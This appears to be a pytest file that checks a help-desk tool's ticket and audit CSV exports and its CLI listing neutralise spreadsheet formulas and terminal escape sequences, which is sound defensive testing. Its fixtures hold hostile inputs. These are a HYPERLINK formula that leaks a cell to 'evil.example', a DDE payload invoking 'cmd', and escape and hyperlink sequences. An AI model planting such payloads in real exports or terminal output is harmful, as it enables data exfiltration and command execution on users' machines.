"""Exports and listings that carry user data are neutral: no spreadsheet formula, no terminal escape.

A ticket whose fields start a formula (`=HYPERLINK(...)`, `@SUM`, `+`, `-`, tab) and audit entries
whose actor, target and address hold formulas and escape sequences go through the ticket export, the
audit export (CLI) and `audit list`, on both engines.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from insightdesk.cli import app
from insightdesk.governance import audit
from insightdesk.governance.records import Where, export_tickets_csv
from insightdesk.governance.roles import Principal, Role
from insightdesk.metrics.fixtures import insert
from insightdesk.model.csv_cells import csv_text, neutral_cell
from insightdesk.store import Store

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
FORMULAS = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]
ALL_QUOTED = re.compile(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*')


@pytest.fixture(autouse=True)
def audit_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # A PostgreSQL store's audit key lives in this folder: keep the tests' keys out of the home folder.
    monkeypatch.setenv("INSIGHTDESK_AUDIT_DIR", str(tmp_path / "audit"))


def _quoted_lines(text: str) -> list[str]:
    lines = text.replace("\r\n", "\n").rstrip("\n").split("\n")
    return [line for line in lines if not ALL_QUOTED.fullmatch(line)]


def test_cells_that_start_a_formula_are_prefixed_and_numbers_stay_numbers() -> None:
    for cell in FORMULAS:
        assert neutral_cell(cell) == "'" + cell
    for kept in ("plain", "", "1-2", "a=b", "'=already", -3, -2.5, 0, None, dt.date(2026, 1, 5)):
        assert neutral_cell(kept) == kept
    text = csv_text(["name", "n"], [{"name": HYPERLINK, "n": -3}, ['say "hi", then =1', None]])
    assert _quoted_lines(text) == []  # every cell quoted, the embedded quotes doubled
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "n"],
        ["'" + HYPERLINK, "-3"],  # a negative number is a number, not a formula
        ['say "hi", then =1', ""],
    ]


def test_ticket_export_neutralises_formula_cells(store: Store) -> None:
    insert(store, "teams", [{"source_id": "T1", "name": "-Frontline"}])
    insert(
        store,
        "tickets",
        [
            {
                "source_id": "x1",
                "type": "incident",
                "status": "open",
                "created_at": dt.datetime(2026, 1, 5, 9),
                "team_id": "fx:T1",
                "category": HYPERLINK,
                "product": FORMULAS[1],
                "region": "+1+1",
                "channel": "\t=1+1",
                "problem_id": "\r=1+1",
            }
        ],
    )
    body = export_tickets_csv(store.engine, Principal("ana", Role.ANALYST), Where())
    assert _quoted_lines(body) == []
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["category"] == "'" + HYPERLINK and row["product"] == "'" + FORMULAS[1]
    assert row["team"] == "'-Frontline" and row["region"] == "'+1+1"
    assert row["channel"] == "'\t=1+1" and row["problem_id"] == "'\r=1+1"
    assert row["id"] == "fx:x1" and row["status"] == "open"  # plain text stays as it was


def test_audit_export_and_list_neutralise_user_data(store_url: str, store: Store, tmp_path: Path) -> None:
    escape = "ev\x1b[31mil\x07\x9b2J"
    audit.append(
        store.engine,
        actor=HYPERLINK,
        action="login.failed",
        target="@SUM(1)",
        record_ids=["-1+2"],
        detail={"reason": escape},
        ip="\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    )
    audit.append(
        store.engine, actor=escape, action="login.failed", target="[link=http://evil.example]x[/link]"
    )
    runner = CliRunner()
    out = tmp_path / "audit.csv"
    exported = runner.invoke(
        app, ["audit", "export", "--format", "csv", "--out", str(out), "--db", store_url]
    )
    assert exported.exit_code == 0, exported.output
    text = out.read_text(encoding="utf-8")
    assert _quoted_lines(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    first = next(r for r in rows if r["action"] == "login.failed")
    assert first["actor"] == "'" + HYPERLINK and first["target"] == "'@SUM(1)"

    listed = runner.invoke(app, ["audit", "list", "--db", store_url])
    assert listed.exit_code == 0, listed.output
    # Rich adds no styles off a terminal, so any control character would have come from the data.
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", listed.stdout), repr(listed.stdout)
    assert "\\x1b" in listed.stdout and "[link=" in listed.stdout  # shown, escaped; markup as text
